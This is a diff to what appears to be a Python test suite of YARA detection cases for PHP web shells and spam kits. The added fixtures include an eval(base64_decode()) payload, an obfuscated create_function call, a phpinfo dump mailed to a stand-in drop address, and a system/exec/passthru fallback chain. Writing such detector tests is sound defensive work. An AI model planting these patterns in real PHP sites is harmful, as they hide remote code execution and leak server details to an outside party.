@@ -245,6 +245,18 @@ CASES: list[tuple[str, bytes, bool]] = [
         php("$a = '<?php echo 1; ?>'; file_put_contents('x.php', $a);"),
         False,
     ),
+    ("SPAMGEAR_OBFUSC_PackedEvalPayload", php("eval(base64_decode('" + B64_RANDOM + "'));"), True),
+    ("SPAMGEAR_OBFUSC_PackedEvalPayload", php("$k = '" + B64_RANDOM + "'; echo base64_decode($k);"), False),
+    (
+        "SPAMGEAR_OBFUSC_JunkLiteralLambda",
+        php("$f = str_replace('y', '', 'ycyreyate_fyunction'); $g = $f('', $b);"),
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_JunkLiteralLambda",
+        php("$f = str_replace('y', '', 'ycyreyate_fyunction'); echo $f;"),
+        False,
+    ),
     # --- filemanager.yar ---------------------------------------------------------------------
     (
         "SPAMGEAR_SHELLUI_CommandFileManager",
@@ -446,6 +458,12 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),
     ("SPAMGEAR_MAILER_HostBeacon", php("mail('x@gmail.com', 's', $_SERVER['HTTP_HOST']);"), False),
+    (
+        "SPAMGEAR_MAILER_PhpinfoExfil",
+        php("ob_start(); phpinfo(); $i = ob_get_clean(); mail('drop@example.invalid', 'info', $i);"),
+        True,
+    ),
+    ("SPAMGEAR_MAILER_PhpinfoExfil", php("ob_start(); phpinfo(); $i = ob_get_clean(); echo $i;"), False),
     # --- password_gate.yar -------------------------------------------------------------------
     (
         "SPAMGEAR_PASSGATE_HashedInputLiteral",
@@ -529,6 +547,15 @@ CASES: list[tuple[str, bytes, bool]] = [
         php("if (function_exists('system')) { system($c); } elseif (function_exists('exec')) { exec($c); }"),
         False,
     ),
+    (
+        "SPAMGEAR_FAMILY_ExecFallbackSmall",
+        php(
+            "if (is_callable('system')) { system($c); } elseif (is_callable('exec')) { exec($c); }"
+            " elseif (is_callable('passthru')) { passthru($c); }"
+        ),
+        True,
+    ),
+    ("SPAMGEAR_FAMILY_ExecFallbackSmall", php("if (is_callable('exec')) { exec($c); }"), False),
     # --- seo_spam.yar ------------------------------------------------------------------------
     (
         "SPAMGEAR_SEOSPAM_CloakedRemoteContent",
